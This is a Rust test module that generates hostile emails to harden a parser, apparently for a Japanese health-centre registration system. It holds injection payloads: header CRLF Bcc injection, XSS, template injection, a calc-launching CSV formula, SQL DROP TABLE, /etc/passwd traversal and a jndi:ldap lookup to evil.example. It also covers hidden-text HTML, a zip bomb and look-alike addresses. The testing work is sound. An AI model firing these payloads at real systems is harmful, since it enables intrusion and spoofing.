//! Tricks one by one: what people try with headers, encodings, structure, pages, characters and addresses.

use super::mails::{
    AUTHORITY, CENTRE, EVIL, FROM, Hostile, May, SUBJECT, TO, form, form_with, head, html, mail, multipart, proper,
    utf8, word,
};
use base64::prelude::{BASE64_STANDARD, Engine as _};

/// What a mail may try to make a terminal, page, letter, log line or table do.
const PAYLOADS: &[(&str, &str)] = &[
    ("crlf", "x\r\nBcc: evil@example.com\r\n\r\nx"),
    ("lf", "x\nBcc: evil@example.com"),
    ("cr", "x\rBcc: evil@example.com"),
    ("line separator", "x\u{2028}Bcc: evil@example.com\u{2029}x"),
    ("next line", "x\u{85}Bcc: evil@example.com"),
    ("escape", "\u{1b}[2J\u{1b}]0;owned\u{7}x"),
    ("osc 8", "\u{1b}]8;;http://evil.example/\u{1b}\\港区\u{1b}]8;;\u{1b}\\"),
    ("c1", "\u{9b}2Jx\u{9d}0;x\u{9c}\u{90}x"),
    ("nul", "x\0y"),
    ("bell and backspace", "x\u{7}\u{8}\u{8}y\u{7f}"),
    ("script", "<script>alert(1)</script>"),
    ("image", "\"><img src=x onerror=alert(1)>"),
    ("entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("svg", "<svg/onload=alert`1`>"),
    ("link", "<a href=\"javascript:alert(1)\">x</a>"),
    ("template", "{{ 7*7 }}{% for x in range(10**9) %}x{% endfor %}{# #}"),
    ("template values", "{{ desk }}{{ url }}{{ password }}${7*7}#{7*7}<%= 7 %>"),
    ("formula", "=cmd|'/C calc'!A1"),
    ("formula +", "+1+1"),
    ("formula -", "-2+3"),
    ("formula @", "@SUM(1+1)"),
    ("formula tab", "\t=1+1"),
    ("quotes", "\",\"=1+1\",\"'; DROP TABLE tenants;--"),
    ("log line", "x\n2020-04-27T00:00:00Z  INFO annai: registered 131032-00"),
    ("path", "../../../../etc/passwd"),
    ("windows path", "..\\..\\C:\\x.exe"),
    ("right to left", "\u{202e}exe.txt\u{202c}\u{2066}x\u{2069}"),
    ("arabic letter mark", "\u{61c}港\u{61c}区\u{200f}\u{206f}\u{fff9}"),
    ("zero width", "港\u{200b}\u{200d}\u{feff}\u{2060}区\u{e0041}\u{fe0f}"),
    ("combining", "港\u{0301}\u{0316}\u{0327}\u{0338}\u{20dd}\u{0489}区"),
    ("format", "%s%n%x%d${jndi:ldap://evil.example/a}"),
    ("replacement", "港\u{fffd}区\u{fffe}\u{10ffff}"),
];

pub(super) fn all(mails: &mut Vec<Hostile>) {
    heads(mails);
    bodies(mails);
    pages(mails);
    structures(mails);
    encodings(mails);
    senders(mails);
    addresses(mails);
    files(mails);
    machines(mails);
}

/// Every payload in every field that is shown anywhere.
fn heads(mails: &mut Vec<Hostile>) {
    for (name, payload) in PAYLOADS {
        let b = word(payload.as_bytes());
        let q: String = payload.bytes().map(|b| format!("={b:02X}")).collect();
        let percent: String = payload.bytes().map(|b| format!("%{b:02X}")).collect();
        let kind = "text/plain; charset=utf-8";
        let mut push = |field: &str, head: String, kind: &str| {
            mails.push(Hostile::new(format!("{name} in {field}"), mail(&head, kind, form().as_bytes()), May::Register));
        };
        push("subject raw", head(&format!("{SUBJECT}{payload}")), kind);
        push("subject b", head(&format!("{} {b}", word(SUBJECT.as_bytes()))), kind);
        push("subject q", head(&format!("=?utf-8?Q?{q}?=")), kind);
        let from = |name: &str| format!("From: {name} <tanto@city.minato.lg.jp>\r\n{TO}Subject: {SUBJECT}\r\n");
        push("from name", from(&b), kind);
        push("from name quoted", from(&format!("\"{}\"", payload.replace('"', "\\\""))), kind);
        push("message id", format!("{FROM}{TO}Subject: {SUBJECT}\r\nMessage-ID: <{payload}@x>\r\n"), kind);
        let attached = "Content-Disposition: attachment; filename";
        let file = format!("{}{attached}*=utf-8''{percent}\r\n", head(SUBJECT));
        push("file name 2231", file, "multipart/mixed; boundary=b");
        let part = format!("Content-Type: text/plain; charset=utf-8\r\n{attached}=\"{b}\"");
        let text = ("Content-Type: text/plain; charset=utf-8", form());
        let attached = multipart(&[(text.0, &text.1), (&part, "x")]);
        mails.push(Hostile::new(format!("{name} in file name"), attached, May::Register));
    }
}

/// Every payload where names and addresses stand.
fn bodies(mails: &mut Vec<Hostile>) {
    for (name, payload) in PAYLOADS {
        let mut push = |place: &str, body: String, may: May| {
            mails.push(Hostile::new(format!("{name} in {place}"), utf8(&body), may));
        };
        push("authority", form_with(&format!("港区{payload}"), AUTHORITY, "みなと保健所", CENTRE), May::Register);
        push("centre", form_with("港区", AUTHORITY, &format!("みなと保健所{payload}"), CENTRE), May::Register);
        push("address", form_with("港区", AUTHORITY, "みなと保健所", &format!("x{payload}{CENTRE}")), May::Anything);
        push("note", form() + "\r\n※" + payload + "\r\n", May::Register);
        push("signature", form() + "\r\n-- \r\n" + payload + "\r\n港区 tanto@city.minato.lg.jp\r\n", May::Register);
    }
}

/// Some of these are seen after all, by some programs.
const SEEN: &[&str] = &["noscript", "select", "object", "iframe", "cdata", "processing"];

/// Ways in which a page holds text that nobody sees.
const UNSEEN: &[(&str, &str)] = &[
    ("display none", "<div style=\"display:none\">X</div>"),
    ("display none spaced", "<div style=\"DISPLAY : none !important\">X</div>"),
    ("display none in an entity", "<div style=\"display&#58;none\">X</div>"),
    ("visibility", "<div style='visibility: hidden'>X</div>"),
    ("hidden attribute", "<div hidden>X</div>"),
    ("no size", "<span style=\"font-size:0\">X</span>"),
    ("one pixel", "<span style=\"font-size:1px;color:#fefefe\">X</span>"),
    ("white", "<span style=\"color:#ffffff\">X</span>"),
    ("white by name", "<span style=\"color: white\">X</span>"),
    ("white font", "<font color=\"#FFF\">X</font>"),
    ("white rgb", "<span style=\"color:rgb(255, 255, 255)\">X</span>"),
    ("transparent", "<span style=\"color:transparent\">X</span>"),
    ("opacity", "<div style=\"opacity:0\">X</div>"),
    ("outside", "<div style=\"position:absolute;left:-9999px\">X</div>"),
    ("indented away", "<div style=\"text-indent:-9999px\">X</div>"),
    ("no height", "<div style=\"height:0;overflow:hidden\">X</div>"),
    ("outlook", "<span style='mso-hide:all'>X</span>"),
    ("class", "<style>.h{display:none}</style><div class=h>X</div>"),
    ("comment", "<!-- X -->"),
    ("comment not ended", "<!-- X "),
    ("comment in a comment", "<!--<!-- --> --> <!-- X -->"),
    ("script", "<script>X</script>"),
    ("script in capitals", "<SCRIPT>X</SCRIPT >"),
    ("style", "<style>X</style>"),
    ("style not ended", "<style>X"),
    ("title", "<title>X</title>"),
    ("textarea", "<textarea style=\"display:none\">X</textarea>"),
    ("template", "<template>X</template>"),
    ("noscript", "<noscript>X</noscript>"),
    ("attribute", "<img alt=\"X\" src=x>"),
    ("input", "<input type=hidden value=\"X\">"),
    ("select", "<select><option>X</option></select>"),
    ("object", "<object>X</object>"),
    ("iframe", "<iframe srcdoc=\"X\">X</iframe>"),
    ("struck", "<s>X</s>"),
    ("struck deep", "<s><del><strike>X</strike></del></s>"),
    ("conditional", "<!--[if mso]>X<![endif]-->"),
    ("cdata", "<![CDATA[X]]>"),
    ("processing", "<?xml X ?>"),
];

fn page(body: &str) -> String {
    let text = body.replace('<', "&lt;").replace("\r\n", "<br>\r\n");
    format!("<html><body>{text}</body></html>")
}

fn pages(mails: &mut Vec<Hostile>) {
    let true_page = page(&form());
    for (name, unseen) in UNSEEN {
        let may = if SEEN.contains(name) { May::Anything } else { May::Register };
        let evil = unseen.replace('X', &format!("<br>みなと保健所 {EVIL}<br>"));
        let before = true_page.replace("みなと保健所", &format!("{evil}みなと保健所"));
        mails.push(Hostile::new(format!("unseen before: {name}"), html(&before), may));
        let after = true_page.replace("以上", &format!("{evil}以上"));
        mails.push(Hostile::new(format!("unseen after: {name}"), html(&after), may));
        let alone = unseen.replace('X', &page(&form_with("港区", AUTHORITY, "みなと保健所", EVIL)));
        mails.push(Hostile::new(format!("unseen alone: {name}"), html(&format!("見積書です。{alone}")), may));
    }
    let tricks = [
        ("deep table", format!("{}{}", "<table><tr><td>".repeat(3_000), true_page)),
        ("deep quote", format!("{}{}", "<blockquote type=cite>".repeat(3_000), true_page)),
        ("deep strike", format!("{}{}{}", "<s>".repeat(3_000), true_page.replace(CENTRE, EVIL), "</s>".repeat(2_999))),
        ("deep strikes", format!("{}{}", "<s><del>".repeat(300), true_page.replace(CENTRE, EVIL))),
        (
            "entity bomb",
            format!("<!DOCTYPE x [<!ENTITY a \"{}\"><!ENTITY b \"&a;&a;&a;\">]>{true_page}&b;&b;", "x".repeat(1000)),
        ),
        ("references without end", format!("{true_page}{}", "&#x1F".repeat(2_000))),
        ("references of controls", format!("{true_page}&#27;[2J&#x9b;2J&#0;&#13;&#10;&#x202e;&#xd800;&#x110000;")),
        ("a link that lies", true_page.replace(CENTRE, &format!("<a href=\"mailto:{EVIL}\">{CENTRE}</a>"))),
        ("a link that lies by percent", {
            let link = EVIL.replace('@', "%40");
            true_page.replace(CENTRE, &format!("<a href=\"mailto:{link}\">{CENTRE}</a>"))
        }),
        ("unclosed everything", format!("<div><p><table><tr><td><b><i><a href='{true_page}")),
        ("bidi tag", format!("<bdo dir=rtl>{true_page}</bdo>")),
    ];
    mails.extend(tricks.into_iter().map(|(name, page)| {
        let lies = name.starts_with("a link") || name.starts_with("deep quote");
        Hostile::new(format!("page: {name}"), html(&page), if lies { May::Never } else { May::Register })
    }));
    let evil_page = page(&form_with("港区", AUTHORITY, "みなと保健所", EVIL));
    for (name, text) in [("other text", form()), ("blank text", "\u{3000}\r\n".into()), ("no text", String::new())] {
        let parts =
            [("Content-Type: text/plain; charset=utf-8", text.as_str()), ("Content-Type: text/html", &evil_page)];
        mails.push(Hostile::new(
            format!("page with {name}"),
            multipart(&parts),
            if text.trim().is_empty() { May::Anything } else { May::Never },
        ));
    }
}

fn structures(mails: &mut Vec<Hostile>) {
    let form = form();
    let evil = form_with("港区", AUTHORITY, "みなと保健所", EVIL);
    let plain = "Content-Type: text/plain; charset=utf-8";
    let part = |text: &str| format!("{plain}\r\n\r\n{text}");
    let whole = |kind: &str, body: String| mail(&head(SUBJECT), kind, body.as_bytes());
    let deep = |n: usize| {
        let open: String =
            (0..n).map(|i| format!("--b{i}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n", i + 1)).collect();
        format!("{open}--b{n}\r\n{}\r\n--b{n}--\r\n", part(&form))
    };
    let inside = |n: usize| format!("{}{plain}\r\n\r\n{form}", "Content-Type: message/rfc822\r\n\r\n".repeat(n));
    let mut push =
        |name: &str, raw: Vec<u8>, may: May| mails.push(Hostile::new(format!("structure: {name}"), raw, may));
    for n in [10, 100, 10_000] {
        push(&format!("{n} parts deep"), whole("multipart/mixed; boundary=b0", deep(n)), May::Register);
        push(&format!("{n} mails deep"), inside(n).into_bytes(), May::Never);
        let many = format!("--b\r\n{}\r\n", part("x")).repeat(n);
        push(
            &format!("{n} parts"),
            whole("multipart/mixed; boundary=b", format!("{many}--b\r\n{}", part(&form))),
            May::Register,
        );
        let many = "--b\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\nx\r\n".repeat(n);
        let raw = whole("multipart/mixed; boundary=b", format!("{many}--b\r\n{}", part(&form)));
        push(&format!("{n} boundaries that never come"), raw, May::Register);
        push(
            &format!("{n} fields"),
            mail(&(head(SUBJECT) + &"X-A: b\r\n".repeat(n)), plain, form.as_bytes()),
            May::Register,
        );
    }
    push("100,000 parts", whole("multipart/mixed; boundary=b", "--b\r\n\r\n".repeat(100_000)), May::Never);
    let boundaries = [
        ("prefix of another", "b", format!("--bb\r\n{}\r\n--b\r\n{}\r\n--b--\r\n", part(&evil), part(&form))),
        ("with blanks", "\" b \"", format!("-- b \r\n{}\r\n-- b --\r\n", part(&form))),
        ("empty", "\"\"", format!("--\r\n{}\r\n----\r\n", part(&form))),
        ("missing in the text", "b", form.clone()),
        ("never closed", "b", format!("--b\r\n{}", part(&form))),
        ("closed at once", "b", format!("--b--\r\n{}", part(&form))),
        ("of dashes", "-----", format!("-------\r\n{}\r\n---------\r\n", part(&form))),
        ("of signs", "\"=_(x)?:,+/\"", format!("--=_(x)?:,+/\r\n{}\r\n--=_(x)?:,+/--\r\n", part(&form))),
        ("very long", &"b".repeat(5_000), format!("--{}\r\n{}\r\n", "b".repeat(5_000), part(&form))),
        ("text before and after", "b", format!("{evil}--b\r\n{}\r\n--b--\r\n{evil}", part(&form))),
    ];
    for (name, boundary, body) in boundaries {
        push(&format!("boundary {name}"), whole(&format!("multipart/mixed; boundary={boundary}"), body), May::Anything);
    }
    push("two texts that differ", multipart(&[(plain, &form), (plain, &evil)]), May::Never);
    push(
        "mail inside",
        multipart(&[(plain, "転送します。"), ("Content-Type: message/rfc822", &format!("{plain}\r\n\r\n{evil}"))]),
        May::Never,
    );
    push(
        "text attached",
        multipart(&[(&format!("{plain}\r\nContent-Disposition: attachment; filename=a.txt"), &form)]),
        May::Never,
    );
    push("digest", whole("multipart/digest; boundary=b", format!("--b\r\n\r\n{}\r\n--b--", part(&form))), May::Never);
    push("partial", whole("message/partial; id=a; number=1; total=2", form.clone()), May::Never);
    push(
        "external body",
        whole("message/external-body; access-type=URL; URL=\"http://evil.example/\"", form.clone()),
        May::Never,
    );
    let two = format!("{}Content-Type: text/html\r\n", head(SUBJECT));
    push("two types", mail(&two, "text/plain; charset=utf-8", form.as_bytes()), May::Register);
    let twice = format!("Subject: x\r\n{}Subject: y\r\n", head(SUBJECT));
    push("three subjects", mail(&twice, "text/plain; charset=utf-8", form.as_bytes()), May::Register);
    push(
        "no colon",
        mail(&format!("no colon here\r\n{}", head(SUBJECT)), "text/plain; charset=utf-8", form.as_bytes()),
        May::Anything,
    );
    push("only a colon", b": x\r\n\r\n".to_vec(), May::Never);
    push("blank first", [b"\r\n".to_vec(), utf8(&form)].concat(), May::Anything);
    push("lone cr", String::from_utf8(utf8(&form)).unwrap().replace("\r\n", "\r").into_bytes(), May::Anything);
    push("lone lf", String::from_utf8(utf8(&form)).unwrap().replace("\r\n", "\n").into_bytes(), May::Register);
    push("cr cr lf", String::from_utf8(utf8(&form)).unwrap().replace("\r\n", "\r\r\n").into_bytes(), May::Anything);
    push("lf cr", String::from_utf8(utf8(&form)).unwrap().replace("\r\n", "\n\r").into_bytes(), May::Anything);
    push("zero bytes between", utf8(&form).iter().flat_map(|b| [*b, 0]).collect(), May::Anything);
    push("only zero bytes", vec![0; 5_000], May::Never);
    push("all bytes", (0..=255).collect(), May::Never);
    push("mbox", [b"From x@y Mon Apr 27 10:00:00 2020\r\n".to_vec(), utf8(&form)].concat(), May::Anything);
    push("long line", utf8(&form.replace("みなと", &format!("{}みなと", "あ".repeat(3_000)))), May::Never);
    push("data behind a long line", utf8(&form.replace("\r\n", &" ".repeat(800))), May::Never);
    push("data behind many lines", utf8(&format!("{}{form}", "\r\n".repeat(20_000))), May::Never);
    push(
        "other data behind many lines",
        utf8(&format!("{form}{}みなと保健所 {EVIL}", "\r\n".repeat(20_000))),
        May::Never,
    );
    for size in [1_000, 100_000, 1_000_000] {
        let head = format!("{}X-Long: {}\r\n", head(SUBJECT), "a".repeat(size));
        push(&format!("field of {size}"), mail(&head, "text/plain; charset=utf-8", form.as_bytes()), May::Register);
    }
    let continued = "Content-Disposition: attachment; filename*2*=%2e; filename*0*=utf-8''%e6; filename*1=b; filename*1*=%b8; filename*9=z";
    push("continuations in disorder", multipart(&[(plain, &form), (continued, "x")]), May::Register);
}

fn encodings(mails: &mut Vec<Hostile>) {
    let form = form();
    let labels = [
        "utf-8",
        "iso-2022-jp",
        "shift_jis",
        "euc-jp",
        "us-ascii",
        "iso-8859-1",
        "gb2312",
        "utf-7",
        "utf-16",
        "x-nothing",
        "",
        "\"",
        "big5",
        "koi8-r",
    ];
    let utf16: Vec<u8> = form.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let real = [
        ("utf-8", form.clone().into_bytes()),
        ("jis", encoding_rs::ISO_2022_JP.encode(&form).0.into_owned()),
        ("sjis", encoding_rs::SHIFT_JIS.encode(&form).0.into_owned()),
        ("euc", encoding_rs::EUC_JP.encode(&form).0.into_owned()),
        ("utf-16", utf16),
    ];
    for (name, bytes) in &real {
        for label in labels {
            let raw = mail(&head(SUBJECT), &format!("text/plain; charset={label}"), bytes);
            mails.push(Hostile::new(format!("{name} called {label:?}"), raw, May::Register));
        }
    }
    let jis = &real[1].1;
    let escapes: Vec<usize> = (0..jis.len()).filter(|at| jis[*at] == 0x1b).collect();
    for at in escapes {
        for (name, cut) in [("lost", 3), ("halved", 1)] {
            let mut bytes = jis.clone();
            bytes.drain(at..at + cut);
            let raw = mail(&head(SUBJECT), "text/plain; charset=iso-2022-jp", &bytes);
            mails.push(Hostile::new(format!("escape {name} at {at}"), raw, May::Register));
        }
    }
    let transfers = ["base64", "quoted-printable", "7bit", "8bit", "binary", "x-uuencode", "gzip", "", "base64 base64"];
    for transfer in transfers {
        for (name, body) in [
            ("text", form.clone()),
            ("base64", BASE64_STANDARD.encode(form.as_bytes())),
            ("signs", "=\r\n==ZZ=4=\r\n".repeat(50) + &form),
        ] {
            let head = format!("{}Content-Transfer-Encoding: {transfer}\r\n", head(SUBJECT));
            let raw = mail(&head, "text/plain; charset=utf-8", body.as_bytes());
            mails.push(Hostile::new(format!("{name} sent as {transfer:?}"), raw, May::Register));
        }
    }
    let bomb = BASE64_STANDARD.encode(vec![b'A'; 200_000]);
    let kind = "text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64";
    mails.push(Hostile::new("base64 of one line", mail(&head(SUBJECT), kind, bomb.as_bytes()), May::Never));
    let words = [
        "=?UTF-8?B?",
        "=?UTF-8?B??=",
        "=?UTF-8?X?a?=",
        "=??B?a?=",
        "=?UTF-8*ja?B?5riv?=",
        "=?utf-8?q?=?=",
        "=?iso-2022-jp?B?GyRC?=",
        "=?=?=?=?=?",
    ];
    for word in words {
        let raw = mail(&head(&word.repeat(200)), "text/plain; charset=utf-8", form.as_bytes());
        mails.push(Hostile::new(format!("words {word}"), raw, May::Register));
    }
}

/// Who it says it is from.
fn senders(mails: &mut Vec<Hostile>) {
    let froms = [
        ("two addresses", "From: tanto@city.minato.lg.jp, evil@example.com", May::Never),
        ("two fields", "From: tanto@city.minato.lg.jp\r\nFrom: evil@example.com", May::Never),
        ("two fields apart", "From: evil@example.com\r\nSender: x@y.jp\r\nFrom: tanto@city.minato.lg.jp", May::Never),
        ("group", "From: staff: tanto@city.minato.lg.jp, evil@example.com;", May::Never),
        ("empty group", "From: undisclosed:;", May::Anything),
        ("route", "From: <@evil.example,@x.jp:tanto@city.minato.lg.jp>", May::Anything),
        ("address in the name", "From: \"tanto@city.minato.lg.jp\" <evil@evil.example.com>", May::Never),
        ("comment", "From: tanto(comment (nested \\) ))@city.minato.lg.jp", May::Anything),
        ("quoted local part", "From: \"a b\\\"@x\"@city.minato.lg.jp", May::Anything),
        ("literal", "From: tanto@[192.0.2.1]", May::Anything),
        ("IPv6", "From: tanto@[IPv6:2001:db8::1]", May::Anything),
        ("UTF-8 local part", "From: 担当@city.minato.lg.jp", May::Anything),
        ("UTF-8 domain", "From: tanto@港区.jp", May::Anything),
        ("none", "X: y", May::Anything),
        ("empty", "From:", May::Anything),
        ("angle only", "From: <>", May::Anything),
        ("unclosed angle", "From: <tanto@city.minato.lg.jp", May::Anything),
        ("unclosed quote", "From: \"港区 <tanto@city.minato.lg.jp>", May::Anything),
        ("several at", "From: a@b@city.minato.lg.jp", May::Anything),
        ("very long", &format!("From: {}@city.minato.lg.jp", "a".repeat(3_000)), May::Anything),
        ("a thousand", &format!("From: {}", "a@city.minato.lg.jp,".repeat(1_000)), May::Never),
        ("free mail", "From: tanto@gmail.com", May::Never),
        ("ourselves", "From: covid19@bigtreetc.com", May::Never),
        ("our sender", "From: noreply@followup.mhlw.go.jp", May::Never),
        ("the ministry", "From: follow-up@mhlw.go.jp", May::Anything),
        ("mailer daemon", "From: MAILER-DAEMON@city.minato.lg.jp", May::Never),
        ("encoded address", "From: =?utf-8?B?dGFudG9AY2l0eS5taW5hdG8ubGcuanA=?=", May::Anything),
        ("newline in the address", "From: <tanto@city.\r\n minato.lg.jp>", May::Anything),
    ];
    for (name, from, may) in froms {
        let head = format!("{from}\r\n{TO}Subject: {SUBJECT}\r\n");
        mails.push(Hostile::new(
            format!("from {name}"),
            mail(&head, "text/plain; charset=utf-8", form().as_bytes()),
            may,
        ));
    }
    let ids = ["", "<", "<>", "a", "<a b@c>", "<a@b> <c@d>", "<\u{0}@x>", "<<<a@b>>>", "<@>", "<あ@x>", "<a@b\r\n c>"];
    for id in ids.into_iter().map(str::to_owned).chain([format!("<{}@x>", "i".repeat(10_000))]) {
        let head = format!("{FROM}{TO}Subject: {SUBJECT}\r\nMessage-ID: {id}\r\n");
        let name: String = id.chars().take(20).collect();
        mails.push(Hostile::new(
            format!("id {name:?}"),
            mail(&head, "text/plain; charset=utf-8", form().as_bytes()),
            May::Register,
        ));
    }
    let dates = [
        "",
        "x",
        "Mon, 27 Apr 2020 10:00:00 +0900 (JST)",
        "1 Jan 0001 00:00:00 +0000",
        "1 Jan 1900 00:00:00 +0000",
        "31 Feb 2020 25:61:61 +9999",
        "1 Jan 9999 23:59:59 -9999",
        "1 Jan 99999 00:00:00 +0000",
        "0",
        "-1",
        "Fri, 32 Foo 2020",
        "27 Apr 20 10:00 JST",
        "18446744073709551616",
        "1 Jan 2038 03:14:08 +0000",
    ];
    for date in dates {
        let head = format!("{FROM}{TO}Subject: {SUBJECT}\r\nDate: {date}\r\n");
        mails.push(Hostile::new(
            format!("date {date:?}"),
            mail(&head, "text/plain; charset=utf-8", form().as_bytes()),
            May::Register,
        ));
    }
}

/// Addresses that look like another, in the place of the centre's.
fn addresses(mails: &mut Vec<Hostile>) {
    let never = [
        "hoken@city.minato.1g.jp",
        "hoken@city.minato.lg.ip",
        "hoken@city.mіnato.lg.jp",
        "hоken@city.minato.lg.jp",
        "hoken@city.minato.lg.jp.evil.example.com",
        "hoken@city.minato.lg.jp@evil.example.com",
        "hoken@[192.0.2.1]",
        "hoken@192.0.2.1",
        "hoken@localhost",
        "hoken@xn--80ak6aa92e.com",
        "hoken@city-minato.lg.jp.co",
        "hoken@city..minato.lg.jp",
        "hoken@city.minato.lg.jp\u{338}",
        "ho ken@city.minato.lg.jp",
        "hoken@city.minato.lg.jp%0d%0aBcc:evil@x.jp",
        "hoken at city.minato.lg.jp",
        "hoken[at]city.minato.lg.jp",
        "hoken＠＠city.minato.lg.jp",
        "\"hoken\"@city.minato.lg.jp x",
        "保健所@city.minato.lg.jp",
        "hoken@港区.jp",
        "һoken@city.minato.lg.jp",
        "οhoken@city.minato.lg.jp",
        "éhoken@city.minato.lg.jp",
        "o'hoken@city.minato.lg.jp",
        "a!hoken@city.minato.lg.jp",
        "x/hoken@city.minato.lg.jp",
        "hoken@city.minato.lg.jpа",
        "hoken@city.minato.lg.jp\u{20dd}",
        "hoken@gmail.com",
        "hoken@docomo.ne.jp",
        "hoken@city.minatо.lg.jp",
        "\u{202e}pj.gl.otanim.ytic@nekoh",
        "hoken@city.minato.lg．jｐ.evil.com",
        "hoken@city.minato.lg.j",
    ];
    let same = [
        "ｈｏｋｅｎ＠ｃｉｔｙ．ｍｉｎａｔｏ．ｌｇ．ｊｐ",
        "hoken@city。minato。lg。jp",
        "hoken@city｡minato｡lg｡jp",
        "hoken\u{200b}@city.minato.lg.jp",
        "hoken@city.mi\u{ad}nato.lg.jp",
        "HOKEN@CITY.MINATO.LG.JP",
        "<hoken@city.minato.lg.jp>",
        "hoken@city.minato.lg.jp.",
        "𝐡𝐨𝐤𝐞𝐧@city.minato.lg.jp",
        "hoken@city\u{2024}minato.lg.jp",
        "mailto:hoken@city.minato.lg.jp?bcc=evil@example.com",
    ];
    for (list, may) in [(&never[..], May::Never), (&same[..], May::Register)] {
        for address in list {
            let body = form_with("港区", AUTHORITY, "みなと保健所", address);
            mails.push(Hostile::new(format!("address {address}"), utf8(&body), may));
        }
    }
    let names = [
        "〇〇市",
        "府中市",
        "偽区",
        "港区と新宿区",
        "港區",
        "港\u{0327}区",
        "みなと区役所",
        "東京都",
        "大阪府港区",
        "",
    ];
    for name in names {
        let raw = utf8(&form_with(name, AUTHORITY, "みなと保健所", CENTRE)).clone();
        mails.push(Hostile::new(format!("authority {name}"), raw, May::Anything));
    }
    let quoted: String =
        form_with("港区", AUTHORITY, "みなと保健所", EVIL).lines().map(|l| format!("> {l}\r\n")).collect();
    for (name, body) in
        [("only quoted", quoted.clone()), ("quoted by others", format!("2020年4月27日 X <x@y.jp>:\r\n{quoted}"))]
    {
        mails.push(Hostile::new(name, utf8(&body), May::Never));
    }
}

/// Attachments that blow up when opened, or lie about what they are.
fn files(mails: &mut Vec<Hostile>) {
    let text = ("Content-Type: text/plain; charset=utf-8", form());
    let see = ("Content-Type: text/plain; charset=utf-8", "添付のとおりです。".to_owned());
    let zip_bomb = {
        // One stored entry that claims four gigabytes.
        let mut zip = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x10\0\0\0\xff\xff\xff\xff\x01\0\0\0a".to_vec();
        zip.extend([0x63; 16]);
        zip.extend(b"PK\x05\x06\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\0");
        zip
    };
    let csv = "名称,アドレス\r\n=cmd|'/C calc'!A1,evil@example.com\r\n".repeat(2_000);
    let kinds = [
        ("zip", "application/zip; name=a.zip", zip_bomb.clone()),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet; name=a.xlsx", zip_bomb),
        ("xlsx of nothing", "application/octet-stream; name=b.xlsx", Vec::new()),
        ("xls", "application/vnd.ms-excel; name=a.xls", [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1].repeat(200)),
        ("csv", "text/csv; name=a.csv", csv.into_bytes()),
        (
            "winmail",
            "application/ms-tnef; name=winmail.dat",
            [0x78, 0x9f, 0x3e, 0x22, 0xff, 0xff, 0xff, 0xff].repeat(100),
        ),
        ("calendar", "text/calendar; name=a.ics", b"BEGIN:VCALENDAR\r\n".repeat(100)),
        ("pdf", "application/pdf; name=a.pdf", b"%PDF-1.7\n%%EOF".to_vec()),
        ("signed", "application/pkcs7-mime; name=smime.p7m", vec![0x30, 0x84, 0xff, 0xff, 0xff, 0xff]),
        ("program", "application/x-msdownload; name=\"a.pdf.exe\"", b"MZ".to_vec()),
    ];
    for (name, kind, bytes) in kinds {
        let part =
            format!("Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment");
        let data = BASE64_STANDARD.encode(&bytes);
        for (with, body, may) in [("with", &text, May::Register), ("instead of", &see, May::Never)] {
            let raw = multipart(&[(body.0, &body.1), (&part, &data)]);
            mails.push(Hostile::new(format!("{name} {with} the form"), raw, may));
        }
    }
}

/// Programs, loops, reports that are none.
fn machines(mails: &mut Vec<Hostile>) {
    let signs = [
        "Auto-Submitted: auto-replied",
        "Auto-Submitted: auto-generated (rejected)",
        "X-Autoreply: yes",
        "X-Auto-Response-Suppress: All",
        "Precedence: bulk",
        "List-Id: <x.example>",
        "Return-Path: <>",
        "X-Failed-Recipients: a@x.jp",
        "X-Loop: covid19@bigtreetc.com",
        "Received: from a\r\nReceived: from b",
        "Return-Path: <evil@example.com>\r\nReturn-Path: <>",
        "Auto-Submitted: no",
        "Auto-Submitted: \u{1b}[2J\r\n auto",
        "In-Reply-To: <x>\r\nReferences: <x>",
        "Resent-From: evil@example.com",
    ];
    for sign in signs {
        let raw = mail(&format!("{sign}\r\n{}", head(SUBJECT)), "text/plain; charset=utf-8", form().as_bytes());
        mails.push(Hostile::new(format!("machine {sign:?}"), raw, May::Register));
    }
    let looping = format!("{}{}", "Received: from a by b\r\n".repeat(500), head(SUBJECT));
    mails.push(Hostile::new("a loop", mail(&looping, "text/plain; charset=utf-8", form().as_bytes()), May::Register));
    let reports = [
        "",
        "Final-Recipient: rfc822; evil@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n",
        "Final-Recipient: x\r\nAction: \u{1b}[2J\r\nStatus: 9.9.9.9.9\r\nDiagnostic-Code: smtp; \u{9b}2J<script>{{ x }}\r\n",
        "Final-Recipient: rfc822; a@x.jp\r\n b@x.jp\r\nAction: failed\r\nStatus: 5\r\n",
        "Status: 5.0.0\r\n\r\n\r\n\r\n\r\n",
    ];
    for (no, report) in reports.iter().enumerate() {
        let body = format!(
            "--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: x\r\n\r\n{report}\r\n--b--\r\n"
        );
        let raw = mail(
            &head("Undelivered Mail"),
            "multipart/report; report-type=delivery-status; boundary=b",
            body.as_bytes(),
        );
        mails.push(Hostile::new(format!("report {no}"), raw, May::Never));
    }
    for (name, raw) in proper() {
        mails.push(Hostile::new(format!("again {name}"), raw, May::Register));
    }
}
